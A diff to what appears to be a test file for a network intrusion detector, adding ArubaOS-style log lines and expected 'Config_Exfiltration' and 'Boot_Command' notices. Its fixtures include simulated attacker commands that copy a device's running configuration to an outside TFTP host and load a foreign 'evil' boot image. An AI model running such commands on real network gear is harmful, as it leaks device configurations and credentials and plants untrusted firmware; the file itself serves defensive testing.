@@ -78,6 +78,12 @@ def fastiron(typed: str, user: str = "mallory", source: str = ATTACKER) -> str:
     return f'<14>Jan  5 08:00:00 icx1 CLI CMD: "{typed}" by {user} from telnet client {source}'
 
 
+def arubaos(typed: str) -> str:
+    """A command as ArubaOS logs it."""
+    by = f'USER:mallory@{ATTACKER} NODE:"/mm/mynode"'
+    return f"<190>Jan  5 08:00:00 mm1 cli[3372]: {by} COMMAND:<{typed}> -- command executed successfully"
+
+
 def named(server: str, file: str | None, line: str, last: int) -> Notice:
     """The notice of one load: the file's name where the line has it as a word of its own."""
     return Notice(
@@ -177,6 +183,8 @@ ABROAD = (
     Notice("Config_Exfiltration", "10.0.1.233", OUTSIDE, "x.cfg"),
     Notice("Boot_Command", "10.0.1.234", OUTSIDE, "evil.bin"),
     Notice("Config_Exfiltration", "10.0.1.234", OUTSIDE, "x.cfg"),
+    *(Notice("Boot_Command", f"10.0.1.{n}", OUTSIDE, "evil.ari") for n in (235, 236)),
+    *(Notice("Config_Exfiltration", f"10.0.1.{n}", OUTSIDE, "x.cfg") for n in (235, 236)),
     Notice("Boot_Command", "10.0.1.231", OUTSIDE, "both.tim"),
     Notice("Boot_Command", "10.0.1.232", OUTSIDE, "evil.tgz"),
     Notice("Config_Exfiltration", "10.0.1.231", OUTSIDE, "x.cfg"),
@@ -195,6 +203,10 @@ ABROAD = (
         ("BW18", 1542007357, "10.0.1.233", syslog.COLLECTOR),
         ("BW07", 1542007526, "10.0.1.234", syslog.COLLECTOR),
         ("BW18", 1542007557, "10.0.1.234", syslog.COLLECTOR),
+        ("BW07", 1542007327, "10.0.1.235", syslog.COLLECTOR),
+        ("BW18", 1542007358, "10.0.1.235", syslog.COLLECTOR),
+        ("BW07", 1542007527, "10.0.1.236", syslog.COLLECTOR),
+        ("BW18", 1542007558, "10.0.1.236", syslog.COLLECTOR),
         ("BW07", 1542007524, "10.0.1.231", syslog.COLLECTOR),
         ("BW07", 1542007525, "10.0.1.232", syslog.COLLECTOR),
         ("BW18", 1542007555, "10.0.1.231", syslog.COLLECTOR),
@@ -209,7 +221,10 @@ ABROAD = (
             {"device": "10.0.1.228", "user": "mallory", "actor": ATTACKER},
             {"device": "10.0.1.229", "user": "rwa", "actor": ATTACKER},
             {"device": "10.0.1.230", "user": "anna", "actor": ATTACKER},
-            *({"device": f"10.0.1.{n}", "user": "mallory", "actor": ATTACKER} for n in (233, 234, 234)),
+            *(
+                {"device": f"10.0.1.{n}", "user": "mallory", "actor": ATTACKER}
+                for n in (233, 234, 234, 235, 235, 236, 236)
+            ),
             *({"device": "10.0.1.231", "user": "mallory", "actor": ATTACKER} for _ in range(2)),
             *({"device": "10.0.1.232", "user": "rwa", "actor": ATTACKER} for _ in range(2)),
         ),
@@ -226,6 +241,13 @@ def bw18_further_words(wire: Wire) -> None:
     told = fastiron(f"copy running-config tftp {OUTSIDE} x.cfg")
     syslog.send(wire, "10.0.1.233", told)
     by_tcp(wire, "10.0.1.234", fastiron(f"copy tftp flash {OUTSIDE} evil.bin secondary"), told)
+    loaded, told = (
+        arubaos(f"copy tftp: {OUTSIDE} evil.ari system: partition 1"),
+        arubaos(f"copy flash: a tftp://{OUTSIDE}/x.cfg"),
+    )
+    syslog.send(wire, "10.0.1.235", loaded)
+    syslog.send(wire, "10.0.1.235", told)
+    by_tcp(wire, "10.0.1.236", loaded, told)
     by_tcp(wire, "10.0.1.231", sros(f"sr1>bof#  primary-image ftp://u:p@{OUTSIDE}/both.tim"), saved)
     by_tcp(wire, "10.0.1.232", voss(f"copy {OUTSIDE}:evil.tgz /intflash/"), copied)
     device = tacacs.Device(wire, "10.0.1.230", AAA)
